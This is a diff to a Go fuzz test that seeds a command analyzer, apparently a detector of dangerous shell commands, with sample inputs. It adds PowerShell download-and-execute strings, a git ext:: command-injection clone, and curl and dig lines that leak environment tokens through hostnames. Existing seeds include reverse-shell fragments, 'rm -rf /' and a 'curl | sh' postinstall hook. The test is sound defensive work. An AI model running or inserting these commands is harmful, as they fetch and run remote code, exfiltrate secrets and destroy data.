@@ -37,6 +37,8 @@ func FuzzAnalyze(f *testing.F) {
 		"docker exec -it", "podman exec -u", "gcloud compute ssh v --command", "gcloud compute ssh v --command='ls'",
 		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 		"printf 'all:\\n\\t@$(CC) $$x $(shell ls)\\n' > Makefile", "cat > Makefile <<'EOF'\nx:\n\t-rm -rf $(OUT) \\\n  y\n\t+$\nEOF",
+		"pwsh -c \"iex (iwr https://x/a).Content\"", "pwsh -c 'irm x | iex'", "pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"http'", "pwsh -enc", "pwsh -co", "pwsh -c 'iex'", "pwsh -c \"(New-Object Net.WebClient).DownloadFile('u','f'); Start-Process f\"", "pwsh -c 'iwr u -OutFile; & .\\a'", "pwsh -c 'start -Wait'",
+		"git -c protocol.ext.allow=always clone 'ext::sh -c touch% /tmp/x' y", "curl https://$(printenv A_TOKEN).x/", "dig ${A_KEY_ID}.x",
 		"\"postinstall\": \"curl x | sh\", \"x\": \"", "{\"command\": \"ls\"", "\t$(\n\t${A.B}",
 		"printf 'b:\\n\\tcurl x | sh\\n' > justfile", "t:\n    @echo {{x}} {{ y }} {{\n  -rm \\\n", "tasks:\n  b:\n    cmds:\n      - ls\n      - cmd: |\n          rm x\n      - task: y\n",
 		"cmds:\n- '", "cmd: \"\\u\"", "[testenv]\ncommands = pytest {posargs} {env:X}\n    -rm x\ncommands_pre =", "sed -i 's|^commands = .*|commands = ls|' tox.ini",
